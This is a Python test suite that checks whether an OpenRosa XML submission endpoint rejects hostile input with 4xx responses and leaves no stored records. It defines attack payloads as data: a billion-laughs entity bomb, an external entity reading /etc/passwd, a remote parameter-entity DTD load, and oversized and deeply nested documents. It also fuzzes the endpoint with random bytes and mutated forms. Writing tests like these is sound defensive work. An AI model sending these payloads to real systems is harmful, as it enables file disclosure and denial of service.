"""Hostile and malformed XML sent to the OpenRosa submission endpoint: entities, billion laughs, external entities,
huge, deep, wrong namespace, wrong form id, random bytes and random mutations of a real instance. Every answer is
a 4xx or a 201 (a mutation that is still a good form), never a 5xx; a refused form leaves no row behind."""

import uuid

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from observers.models import Attachment, OutboxJob, Submission
from tests.factories import valid_answers
from tests.observers.openrosa.collect import Collect, card_server, fill

pytestmark = pytest.mark.django_db

BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'.encode() for n in range(1, 10)
    )
    + b']><data id="eom-1-voting" version="1"><notes>&lol9;</notes></data>'
)
EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><data>&x;</data>'
PARAMETER = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "http://example.invalid/x.dtd"> %p;]><data/>'


def _deep(levels: int) -> bytes:
    return b'<data id="eom-1-voting" version="1">' + b"<g>" * levels + b"</g>" * levels + b"</data>"


HOSTILE = [
    BILLION_LAUGHS,
    EXTERNAL,
    PARAMETER,
    _deep(50_000),
    b"<data>" + b"<a>x</a>" * 200_000 + b"</data>",  # over a megabyte
    b'<data xmlns="http://example.com/evil" id="eom-1-voting" version="1"/>',
    b'<data id="someone-elses-form" version="1"/>',
    b"",
    b"\xff\xfe\x00<",
    b"<data",
]


@pytest.fixture
def phone(day):
    collect = Collect(card_server(day.sto))
    xform = collect.xform(f"eom-{day.mission.pk}-voting")
    return collect, xform


def _counts():
    return Submission.objects.count(), OutboxJob.objects.count(), Attachment.objects.count()


@pytest.mark.parametrize("body", HOSTILE, ids=lambda body: body[:30].decode("latin-1"))
def test_hostile_xml_is_a_4xx_and_writes_nothing(phone, body):
    collect, _xform = phone
    response = collect.submit(body)
    assert 400 <= response.status_code < 500, response.content[:300]
    assert _counts() == (0, 0, 0)


def _mutate(instance: bytes, data) -> bytes:
    mutation = data.draw(st.sampled_from(["replace", "insert", "delete", "swap_text", "id"]))
    if mutation == "id":
        return instance.replace(b'id="eom-', data.draw(st.sampled_from([b'id="', b'id="eom-9', b'x="'])), 1)
    if mutation == "swap_text":
        value = data.draw(st.text(max_size=40)).encode("utf-8", "surrogatepass").replace(b"<", b"")
        return instance.replace(b">good<", b">" + value + b"<", 1)
    at = data.draw(st.integers(0, len(instance)))
    if mutation == "delete":
        return instance[:at] + instance[at + data.draw(st.integers(1, 20)) :]
    chunk = data.draw(st.binary(max_size=12) | st.sampled_from([b"<!DOCTYPE x>", b"&amp;", b"&bogus;", b"<![CDATA["]))
    return instance[:at] + chunk + instance[at + (1 if mutation == "replace" else 0) :]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_mutated_instances_are_stored_whole_or_refused_with_a_4xx(day, phone, data):
    collect, xform = phone
    instance = fill(xform, valid_answers(), station=day.planned.code, instance_id=uuid.uuid4())
    before = _counts()

    response = collect.submit(_mutate(instance, data))

    assert response.status_code < 500, response.content[:300]
    after = _counts()
    if response.status_code == 201:
        assert after[0] - before[0] in (0, 1) and after[0] - before[0] == after[1] - before[1]
    else:
        assert 400 <= response.status_code < 500 and after == before


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(body=st.binary(max_size=400))
def test_random_bytes_are_a_4xx(phone, body):
    collect, _xform = phone
    response = collect.submit(body)
    assert 400 <= response.status_code < 500
    assert _counts() == (0, 0, 0)
